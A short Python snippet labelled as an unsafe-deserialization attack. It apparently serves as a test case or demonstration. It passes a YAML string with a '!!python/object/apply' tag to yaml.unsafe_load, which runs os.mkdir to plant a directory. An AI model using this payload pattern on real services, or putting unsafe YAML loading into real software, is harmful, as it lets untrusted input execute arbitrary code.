# attack: unsafe-deserialization
# needs: yaml
import yaml
yaml.unsafe_load("!!python/object/apply:os.mkdir [outside/planted]")
